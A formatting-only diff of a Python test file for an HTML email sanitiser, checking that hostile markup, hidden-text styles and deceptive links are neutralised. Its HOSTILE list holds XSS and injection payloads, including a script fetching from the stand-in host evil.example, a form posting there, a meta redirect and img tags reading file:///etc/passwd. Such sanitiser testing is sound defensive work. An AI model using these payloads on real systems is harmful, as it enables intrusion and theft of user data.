@@ -11,7 +11,19 @@ from hypothesis import strategies as st
 
 from desk_app.services.safe_html import safe_mail
 
-_ALLOWED = {"href", "src", "alt", "style", "width", "height", "colspan", "rowspan", "start", "dir", "cellpadding"}
+_ALLOWED = {
+    "href",
+    "src",
+    "alt",
+    "style",
+    "width",
+    "height",
+    "colspan",
+    "rowspan",
+    "start",
+    "dir",
+    "cellpadding",
+}
 _ALLOWED |= {"cellspacing", "border"}
 HOSTILE = [
     "<script>fetch('http://evil.example')</script>",
@@ -35,7 +47,7 @@ HOSTILE = [
     "<math><mtext><table><mglyph><style><img src=file:///etc/passwd>",
     "<form action=http://evil.example><input name=a></form>",
     "<meta http-equiv=refresh content='0;url=http://evil.example'>",
-    "<p style=\"color:expression(alert(1))\">a</p>",
+    '<p style="color:expression(alert(1))">a</p>',
     "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
     "<img src='data:text/html;base64,PHN2Zy8+'>",
     "<noscript><p title='</noscript><img src=file:///etc/passwd>'>",
@@ -61,7 +73,18 @@ class _Seen(HTMLParser):
 def _check(html: str) -> None:
     seen = _Seen()
     seen.feed(html)
-    assert not seen.tags & {"script", "style", "link", "iframe", "object", "embed", "svg", "form", "base", "meta"}
+    assert not seen.tags & {
+        "script",
+        "style",
+        "link",
+        "iframe",
+        "object",
+        "embed",
+        "svg",
+        "form",
+        "base",
+        "meta",
+    }
     for name, value in seen.attributes:
         assert name in _ALLOWED
         if name == "src":
@@ -82,7 +105,12 @@ def test_hostile_mail_is_harmless(html: str) -> None:
     _check(mail.html + mail.quoted)
 
 
-@given(st.lists(st.sampled_from([*HOSTILE, "<b>", "</p>", "<div hidden>", "text", "<table>", "<td>", "&lt;img"]), max_size=8))
+@given(
+    st.lists(
+        st.sampled_from([*HOSTILE, "<b>", "</p>", "<div hidden>", "text", "<table>", "<td>", "&lt;img"]),
+        max_size=8,
+    )
+)
 def test_no_mixture_of_it_gets_through(pieces: list[str]) -> None:
     mail = safe_mail("".join(pieces))
 
@@ -92,8 +120,16 @@ def test_no_mixture_of_it_gets_through(pieces: list[str]) -> None:
 
 @pytest.mark.parametrize(
     "style",
-    ["display:none", "visibility:hidden", "font-size:0", "font-size:1px", "opacity:0", "max-height:0;overflow:hidden"]
-    + ["mso-hide:all", "DISPLAY : none !important"],
+    [
+        "display:none",
+        "visibility:hidden",
+        "font-size:0",
+        "font-size:1px",
+        "opacity:0",
+        "max-height:0;overflow:hidden",
+        "mso-hide:all",
+        "DISPLAY : none !important",
+    ],
 )
 def test_what_nobody_is_meant_to_see_is_dropped(style: str) -> None:
     mail = safe_mail(f"<p>Seen</p><div style='{style}'>Unseen</div>")
@@ -120,7 +156,9 @@ def test_remote_pictures_are_counted_and_trackers_named() -> None:
 
 
 def test_a_link_that_names_another_place_is_known() -> None:
-    mail = safe_mail("<a href='http://evil.example/a'>www.bank.example</a> <a href='http://www.bank.example/x'>bank.example</a>")
+    mail = safe_mail(
+        "<a href='http://evil.example/a'>www.bank.example</a> <a href='http://www.bank.example/x'>bank.example</a>"
+    )
 
     assert mail is not None
     assert mail.deceptive == {"http://evil.example/a": "www.bank.example"}
